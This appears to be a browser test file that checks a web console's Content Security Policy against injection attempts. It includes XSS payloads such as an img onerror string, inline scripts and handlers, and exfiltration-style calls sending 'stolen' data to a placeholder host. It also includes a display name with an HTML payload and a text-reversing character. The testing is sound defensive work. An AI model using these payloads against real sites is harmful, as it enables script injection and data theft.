import type { Page } from 'playwright-core';
import type { RunningTestApi } from '../../integration/api/running-api.ts';
import { describeInBrowser, expectComplaint } from '../../support/browser.ts';
import { until } from '../../support/until.ts';
import { startConsole } from '../support/console.ts';
import { person, signIn } from '../support/people.ts';

/** What an attacker would do with a hole in the page, and which part of the policy stands in the way. */
const ATTACKS: readonly [attack: string, script: string, directive: RegExp][] = [
  ['markup from a string', `document.body.innerHTML = '<img src=x onerror="ran = 1">'`, /require-trusted-types-for/],
  ['markup beside an element', `document.body.insertAdjacentHTML('beforeend', '<b>x</b>')`, /require-trusted-types-for/],
  ['a document from a string', `new DOMParser().parseFromString('<b>x</b>', 'text/html')`, /require-trusted-types-for/],
  ['a second way to make markup', `trustedTypes.createPolicy('evil', { createHTML: (text) => text })`, /trusted-types/],
  [
    'an inline script',
    `const s = document.createElement('script'); s.textContent = 'ran = 1'; document.body.append(s)`,
    /require-trusted-types-for|script-src/,
  ],
  [
    'an inline handler',
    `document.body.setAttribute('onclick', 'ran = 1'); document.body.click()`,
    /require-trusted-types-for|script-src/,
  ],
  ['code from a string', `setTimeout('ran = 1', 0)`, /require-trusted-types-for|script-src/],
  [
    'a frame of another site',
    `const f = document.createElement('iframe'); f.src = 'http://127.0.0.1:9/'; document.body.append(f)`,
    /default-src|frame-src/,
  ],
  ['a picture that tells another site', `new Image().src = 'http://127.0.0.1:9/?stolen'`, /img-src/],
  ['a request to another site', `fetch('http://127.0.0.1:9/?stolen').catch(() => {})`, /connect-src/],
  ['a beacon to another site', `navigator.sendBeacon('http://127.0.0.1:9/', 'stolen')`, /connect-src/],
  [
    'a form that leaves',
    `const f = document.createElement('form'); f.action = 'http://127.0.0.1:9/'; document.body.append(f); f.submit()`,
    /form-action/,
  ],
  [
    'another base for links',
    `const b = document.createElement('base'); b.href = 'http://127.0.0.1:9/'; document.head.append(b)`,
    /base-uri/,
  ],
  ['a style attribute', `document.body.setAttribute('style', 'display:none')`, /style-src-attr/],
  [
    'a style sheet of another site',
    `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'http://127.0.0.1:9/x.css'; document.head.append(l)`,
    /style-src/,
  ],
  ['a worker', `new Worker(URL.createObjectURL(new Blob(['1'])))`, /require-trusted-types-for|worker-src|default-src|script-src/],
];

describeInBrowser('what the policy of the page keeps out', (open) => {
  let api: RunningTestApi;
  let page: Page;
  beforeAll(async () => {
    api = await startConsole();
  });
  afterAll(() => api.close());

  test.each(ATTACKS)('%s', async (_attack, script, directive) => {
    page = await open();
    expectComplaint(page, /Content Security Policy|violates the following|requires a? ?'?Trusted|Refused|Failed to set|policy/i);
    await page.addInitScript(`globalThis.ran = 0; globalThis.violated = [];
      addEventListener('securitypolicyviolation', (event) => violated.push(event.effectiveDirective));`);
    await page.goto(`${api.url}/console/login`);
    await page.getByRole('heading', { level: 1 }).waitFor();
    expect(await page.evaluate('violated')).toEqual([]);
    await page.evaluate(`try { ${script} } catch {}`);
    await until(async () => ((await page.evaluate('violated')) as string[]).some((each) => directive.test(each)));
    expect(await page.evaluate('ran')).toBe(0);
  });

  test('names that would be markup, or would turn the words around them, are shown as what they are', async () => {
    const hostile = `<img src=x onerror="ran=1">\u202Egnp`;
    page = await open();
    await signIn(page, api.url, await person(api.database, 'reviewer', { displayName: hostile }));
    await page.goto(`${api.url}/console/nowhere`);
    const button = page.getByRole('button', { name: /img src/ });
    await button.waitFor();
    expect(await button.textContent()).toContain('<img src=x');
    expect(await page.locator('img').count()).toBe(0);
    expect(await page.locator('bdi').count()).toBeGreaterThan(0);
  });
});
